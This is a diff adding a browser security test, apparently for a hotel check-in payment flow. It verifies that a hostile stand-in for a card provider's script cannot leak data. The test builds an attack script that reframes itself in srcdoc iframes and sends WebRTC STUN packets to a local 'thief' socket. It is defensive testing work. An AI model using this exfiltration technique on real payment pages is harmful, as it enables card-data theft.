@@ -1,0 +1,90 @@
+import { createSocket } from 'node:dgram';
+import { networkInterfaces } from 'node:os';
+import { CheckinPaymentPage, PAYMENT_ON } from '../pages/checkin-payment-page.ts';
+import { expect, type Page, test } from '../support/fixtures.ts';
+
+/**
+ * What leaves the card document past the network of the page: packets of `RTCPeerConnection`, which no policy asks about and no
+ * interception of HTTP sees. They are looked for on a socket of their own.
+ */
+
+const SCRIPT_URL = 'https://cards.example/ext/js/token.js';
+
+/** An address of this machine that a browser sends packets to. */
+const HOST =
+  Object.values(networkInterfaces())
+    .flat()
+    .find((address) => address?.family === 'IPv4' && !address.internal)?.address ?? '127.0.0.1';
+
+/** A UDP socket, and how many packets have come to it. */
+async function openSocket() {
+  const socket = createSocket('udp4');
+  let packets = 0;
+  socket.on('message', () => {
+    packets += 1;
+  });
+  await new Promise<void>((resolve) => socket.bind(0, '0.0.0.0', resolve));
+  return { port: socket.address().port, packets: () => packets, close: () => socket.close() };
+}
+
+/** Runs in a page: sends packets to a STUN server. */
+function sendPackets(server: string): void {
+  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${server}` }] });
+  connection.createDataChannel('card');
+  void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
+}
+
+/** A script in the provider's place that loads itself again in frames of its own, each with a fresh browser in it. */
+const hostile = (server: string) => `
+if (location.href.startsWith('about:')) {
+  (${sendPackets.toString()})(${JSON.stringify(server)});
+} else {
+  const own = document.scripts[0].textContent;
+  const again = '<script src="${SCRIPT_URL}"></' + 'script>';
+  const send = '<script>(${sendPackets.toString().replaceAll("'", "\\'").replaceAll('\n', ' ')})("${server}")</' + 'script>';
+  const ways = [again, send, '<script>' + own + '</' + 'script>' + again, '<img src=x onerror="0">' + again];
+  window.framed = Promise.all(ways.map((html) => new Promise((resolve) => {
+    const frame = document.createElement('iframe');
+    frame.onload = resolve;
+    frame.srcdoc = html;
+    document.documentElement.append(frame);
+  })));
+  window.Multipayment = { init() {}, getToken() {} };
+}`;
+
+declare global {
+  interface Window {
+    /** Made by the hostile script: all its frames are loaded. */
+    framed?: Promise<unknown>;
+  }
+}
+
+const serves = (page: Page, body: string) =>
+  page.route(SCRIPT_URL, (route) => route.fulfill({ body, contentType: 'text/javascript' }));
+
+test.describe('a script that frames itself', () => {
+  test.use({ expectedErrors: [/Content Security Policy|Content-Security-Policy|Invalid target origin/] });
+
+  test('sends no packet', async ({ page, tenant }) => {
+    const thief = await openSocket();
+    const control = await openSocket();
+    await serves(page, hostile(`${HOST}:${thief.port}`));
+    tenant.configure({ ...PAYMENT_ON, card: { script_url: SCRIPT_URL } });
+    const guest = new CheckinPaymentPage(page, tenant);
+    await guest.goesToUnsettled();
+    await guest.taps('smart-payment');
+    await guest.isOn('/checkin/check-total');
+    await guest.goesOn();
+    await guest.isOn('/checkin/input-card');
+    const find = () => page.frames().find((frame) => frame.url().endsWith('/card.html'));
+    await expect.poll(() => find()?.evaluate(() => window.framed !== undefined) ?? false).toBe(true);
+    await find()?.evaluate(() => window.framed);
+
+    // The app's own page may send: had the frames sent, their packets were here before its own.
+    await page.evaluate(sendPackets, `${HOST}:${control.port}`);
+    await expect.poll(control.packets).toBeGreaterThan(0);
+    expect(thief.packets()).toBe(0);
+    thief.close();
+    control.close();
+  });
+});
